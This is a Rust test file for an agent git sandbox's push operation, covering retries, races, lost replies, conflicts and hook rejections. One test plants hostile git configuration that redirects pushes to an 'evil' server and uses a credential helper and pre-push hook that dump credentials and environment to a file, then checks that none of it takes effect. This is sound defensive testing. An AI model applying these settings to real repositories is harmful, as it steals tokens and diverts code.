//! `push`, its races and its lost answers.

use gitledger_events::Fact;
use gitledger_events::operation::{PushOutcome, SideEffect};
use serde_json::json;

use crate::sandbox::{Sandbox, git};
use crate::server::{Accident, Server, push_by_another};

const MINE: &str = "agent-a1-t1";

fn outcomes(sandbox: &Sandbox) -> Vec<(u32, PushOutcome)> {
    let attempted = |fact: &Fact| match fact {
        Fact::PushAttempted(attempted) => Some((attempted.attempt, attempted.outcome)),
        _ => None,
    };
    sandbox.facts.iter().filter_map(attempted).collect()
}

fn push(sandbox: &mut Sandbox, file: &str, text: &str) -> serde_json::Value {
    sandbox.write(file, text);
    sandbox.good("push", json!({"sandbox_id": "s1", "commit_message": file}))
}

#[test]
fn a_push_commits_and_lands_in_two_rounds_and_a_repeat_is_up_to_date() {
    let server = Server::with_repository(Some("s3cret"));
    let mut sandbox = server.cloned();
    let output = push(&mut sandbox, "mine", "m\n");
    assert_eq!(output["commit_hash"], server.tip(MINE));
    assert_eq!((output["pushed_branch"].as_str(), output["attempt"].as_u64()), (Some(MINE), Some(1)));
    assert_eq!(sandbox.plans.len(), 2);
    assert_eq!(outcomes(&sandbox), [(1, PushOutcome::Landed)]);
    assert!(matches!(&sandbox.facts[0], Fact::PushPrepared(prepared) if prepared.old.is_none()));
    let again = sandbox.good("push", json!({"sandbox_id": "s1", "commit_message": "nothing"}));
    assert_eq!((again["up_to_date"].as_bool(), again["pushed"].as_bool()), (Some(true), Some(false)));
    assert_eq!(sandbox.plans.len(), 1);
    // A second commit, after main has moved: the original could never do this.
    server.push_by_another("main", "theirs", "t\n");
    let before = server.tip(MINE);
    let output = push(&mut sandbox, "mine", "m2\n");
    assert_eq!(
        (output["remote_before"].as_str(), output["rebased"].as_bool()),
        (Some(before.as_str()), Some(false))
    );
    assert_eq!(sandbox.plans.len(), 2);
}

#[test]
fn commits_of_others_on_the_same_branch_are_built_upon() {
    let server = Server::with_repository(None);
    let mut sandbox = server.cloned();
    push(&mut sandbox, "mine", "1\n");
    server.push_by_another(MINE, "theirs", "t\n");
    let theirs = server.tip(MINE);
    let output = push(&mut sandbox, "mine", "2\n");
    assert_eq!((output["rebased"].as_bool(), output["attempt"].as_u64()), (Some(true), Some(1)));
    assert_eq!(output["remote_before"], theirs);
    assert_eq!(output["commit_hash"], server.tip(MINE));
    assert_eq!(git(&server.bare("a/r.git"), &["rev-parse", &format!("{MINE}~1")]), theirs);
}

#[test]
fn somebody_who_is_faster_every_time_costs_attempts_and_loses_nothing() {
    let server = Server::with_repository(None);
    let mut sandbox = server.cloned();
    push(&mut sandbox, "mine", "1\n");
    for file in ["a", "b"] {
        let bare = server.bare("a/r.git");
        server.accident(Accident::First(Box::new(move || push_by_another(&bare, MINE, file, "t\n"))));
    }
    let output = push(&mut sandbox, "mine", "2\n");
    assert_eq!((output["attempt"].as_u64(), output["rebased"].as_bool()), (Some(3), Some(true)));
    assert_eq!(
        outcomes(&sandbox),
        [(1, PushOutcome::Superseded), (2, PushOutcome::Superseded), (3, PushOutcome::Landed)]
    );
    let files = git(&server.bare("a/r.git"), &["ls-tree", "--name-only", MINE]);
    assert_eq!(files.lines().collect::<Vec<_>>(), ["a", "b", "f", "g", "mine"]);
    for file in ["c", "d"] {
        let bare = server.bare("a/r.git");
        server.accident(Accident::First(Box::new(move || push_by_another(&bare, MINE, file, "t\n"))));
    }
    sandbox.write("mine", "3\n");
    let failure = sandbox.bad("push", json!({"sandbox_id": "s1", "commit_message": "3", "max_attempts": 2}));
    assert_eq!((failure.code.name, failure.side_effect), ("non-fast-forward", SideEffect::Applied));
}

#[test]
fn an_answer_that_was_lost_is_looked_up() {
    let server = Server::with_repository(None);
    let mut sandbox = server.cloned();
    server.accident(Accident::CutReply);
    let output = push(&mut sandbox, "mine", "1\n");
    assert_eq!((output["pushed"].as_bool(), output["attempt"].as_u64()), (Some(true), Some(1)));
    assert_eq!(outcomes(&sandbox), [(1, PushOutcome::Landed)]);
    assert_eq!(output["commit_hash"], server.tip(MINE));
}

#[test]
fn a_request_that_was_lost_is_sent_again() {
    let server = Server::with_repository(None);
    let mut sandbox = server.cloned();
    server.accident(Accident::CutRequest);
    let output = push(&mut sandbox, "mine", "1\n");
    assert_eq!(output["attempt"], 2);
    assert_eq!(outcomes(&sandbox), [(1, PushOutcome::Unknown), (2, PushOutcome::Landed)]);
    server.accident(Accident::Status(503));
    let output = push(&mut sandbox, "mine", "2\n");
    assert_eq!(output["attempt"], 2);
}

#[test]
fn a_remote_that_never_answers_leaves_the_outcome_unknown() {
    let server = Server::with_repository(None);
    let mut sandbox = server.cloned();
    for _ in 0..3 {
        server.accident(Accident::CutRequest);
    }
    sandbox.write("mine", "1\n");
    let failure = sandbox.bad("push", json!({"sandbox_id": "s1", "commit_message": "1"}));
    assert_eq!((failure.code.name, failure.side_effect), ("unknown-outcome", SideEffect::Unknown));
    // The last attempt has no end: the remote is to be asked again.
    assert_eq!(outcomes(&sandbox), [(1, PushOutcome::Unknown), (2, PushOutcome::Unknown)]);
}

#[test]
fn a_conflict_with_the_branchs_own_remote_state_is_told_and_nothing_is_stuck() {
    let server = Server::with_repository(None);
    let mut sandbox = server.cloned();
    push(&mut sandbox, "mine", "1\n");
    server.push_by_another(MINE, "mine", "theirs\n");
    let theirs = server.tip(MINE);
    sandbox.write("mine", "2\n");
    let failure = sandbox.bad("push", json!({"sandbox_id": "s1", "commit_message": "2"}));
    assert_eq!((failure.code.name, failure.side_effect), ("merge-conflict", SideEffect::Applied));
    assert_eq!(failure.output.unwrap()["conflicts"][0]["path"], "mine");
    assert_eq!(server.tip(MINE), theirs);
    let status = sandbox.good("status", json!({"sandbox_id": "s1"}));
    assert_eq!((status["clean"].as_bool(), status["in_progress"].is_null()), (Some(true), true));
    assert_eq!(sandbox.read("mine"), "2\n");
}

#[test]
fn a_hook_that_declines_is_a_failure_with_what_it_said_and_no_second_attempt() {
    let server = Server::with_repository(None);
    let mut sandbox = server.cloned();
    let hook = server.bare("a/r.git").join("hooks/pre-receive");
    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
    std::fs::write(&hook, "#!/bin/sh\necho 'no way' >&2\nexit 1\n").unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    sandbox.write("mine", "1\n");
    let failure = sandbox.bad("push", json!({"sandbox_id": "s1", "commit_message": "1"}));
    assert_eq!((failure.code.name, failure.side_effect), ("hook-declined", SideEffect::Applied));
    assert!(failure.message.contains("no way"));
    assert_eq!(outcomes(&sandbox), [(1, PushOutcome::Rejected)]);
    std::fs::write(&hook, "#!/bin/sh\necho 'error: GH006: Protected branch update failed' >&2\nexit 1\n")
        .unwrap();
    assert_eq!(sandbox.bad("push", json!({"sandbox_id": "s1"})).code.name, "protected-branch");
}

#[test]
fn another_branch_can_be_the_target_and_the_current_one_need_not_be_the_agents() {
    let server = Server::with_repository(None);
    let mut sandbox = server.cloned();
    sandbox.write("mine", "1\n");
    sandbox.good("push", json!({"sandbox_id": "s1", "commit_message": "1", "branch": "release/x"}));
    assert_eq!(server.tip("release/x"), sandbox.git(&["rev-parse", "HEAD"]));
    sandbox.good("switch", json!({"sandbox_id": "s1", "branch": "other", "create": true}));
    let output = push(&mut sandbox, "mine", "2\n");
    assert_eq!((output["pushed_branch"].as_str(), sandbox.plans.len()), (Some("other"), 3));
    assert_eq!(server.tip("other"), output["commit_hash"].as_str().unwrap());
}

#[test]
fn a_hostile_workspace_can_neither_redirect_a_push_nor_see_its_token() {
    let evil = Server::with_repository(None);
    let server = Server::with_repository(Some("s3cret"));
    let mut sandbox = server.cloned();
    let stolen = sandbox.home.path().join("stolen");
    let helper = format!("!cat >> {0}; env >> {0}; f() {{ :; }}; f", stolen.display());
    let evil_proxy = evil.url.clone();
    for (key, value) in [
        (format!("url.{}.insteadOf", evil.url), server.url.clone()),
        (format!("url.{}.pushInsteadOf", evil.url), server.url.clone()),
        ("remote.origin.pushurl".to_owned(), format!("{}a/r.git", evil.url)),
        ("remote.origin.url".to_owned(), format!("{}a/r.git", evil.url)),
        (format!("remote.{}.url", server.repo_url()), format!("{}a/r.git", evil.url)),
        ("credential.helper".to_owned(), helper.clone()),
        (format!("credential.{}.helper", server.url), helper),
        ("http.proxy".to_owned(), evil_proxy.clone()),
        (format!("http.{}.proxy", server.url), evil_proxy),
        ("core.hooksPath".to_owned(), sandbox.home.path().display().to_string()),
        ("core.alternateRefsCommand".to_owned(), format!("touch {}", stolen.display())),
        ("push.gpgSign".to_owned(), "true".to_owned()),
        ("remote.origin.receivepack".to_owned(), format!("touch {}", stolen.display())),
    ] {
        sandbox.git(&["config", &key, &value]);
    }
    let hook = sandbox.home.path().join("pre-push");
    std::fs::write(&hook, format!("#!/bin/sh\nenv >> {}\n", stolen.display())).unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let output = push(&mut sandbox, "mine", "1\n");
    sandbox.good("fetch", json!({"sandbox_id": "s1"}));
    sandbox.good("pull", json!({"sandbox_id": "s1"}));
    assert_eq!(server.tip(MINE), output["commit_hash"].as_str().unwrap());
    assert!(evil.requests().is_empty(), "{:?}", evil.requests());
    assert!(!stolen.exists());
    // And no plan has it in its words.
    assert!(!format!("{:?}", sandbox.plans).contains("s3cret"));
}

#[test]
fn changes_that_are_not_committed_do_not_stop_a_push_that_needs_no_rebase() {
    let server = Server::with_repository(None);
    let mut sandbox = server.cloned();
    sandbox.write("mine", "1\n");
    sandbox.write("g", "dirty\n");
    let one = json!({"sandbox_id": "s1", "commit_message": "1", "files": ["mine"]});
    sandbox.good("push", one);
    assert_eq!(sandbox.read("g"), "dirty\n");
    server.push_by_another(MINE, "theirs", "t\n");
    sandbox.write("mine", "2\n");
    let failure = sandbox.bad("push", json!({"sandbox_id": "s1", "commit_message": "2", "files": ["mine"]}));
    assert_eq!((failure.code.name, failure.side_effect), ("local-changes-overwritten", SideEffect::Applied));
}
